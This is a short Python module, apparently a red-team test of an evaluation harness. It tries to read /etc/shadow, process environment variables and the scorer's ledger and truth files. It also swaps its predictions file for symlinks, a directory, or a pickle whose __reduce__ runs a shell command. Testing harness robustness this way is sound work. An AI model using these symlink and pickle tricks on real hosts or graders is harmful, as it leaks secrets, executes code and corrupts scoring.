"""Tries: puts links where its predictions lie, so that the host reads or writes what it should not.

One run each: a link to a file of the host's, a link that is written through, a pickle that would run, a directory.
"""

import atexit
import contextlib
import os
import pickle
from pathlib import Path

SECRETS = ["/etc/shadow", "/proc/1/environ", "../../../scorer/ledger.jsonl", "../../truth.json"]
MARK = "/tmp/w2s-red-team-was-here"
OUT = Path("/work/predictions.npy")


class Bomb:
    def __reduce__(self):
        return (os.system, (f"touch {MARK}",))


def fit(context):
    (context.folder / "checkpoint").write_text(context.fit(context.weak).checkpoint)
    for path in SECRETS:
        try:
            print(f"{path}: {Path(path).read_bytes()[:200]!r}")
        except OSError as error:
            print(f"{path}: {error.strerror}")


def predict(context, inputs):
    form = context.seed % 4
    if form == 0:
        with contextlib.suppress(OSError):
            OUT.symlink_to(MARK)
    else:
        atexit.register(replaced, form, SECRETS[context.seed % len(SECRETS)])
    return context.predict((context.folder / "checkpoint").read_text(), inputs)


def replaced(form, secret):
    """After the predictions have been written, before the host takes them."""
    OUT.unlink()
    if form == 1:
        OUT.symlink_to(secret)
    elif form == 2:
        OUT.write_bytes(pickle.dumps(Bomb()))
    else:
        OUT.mkdir()
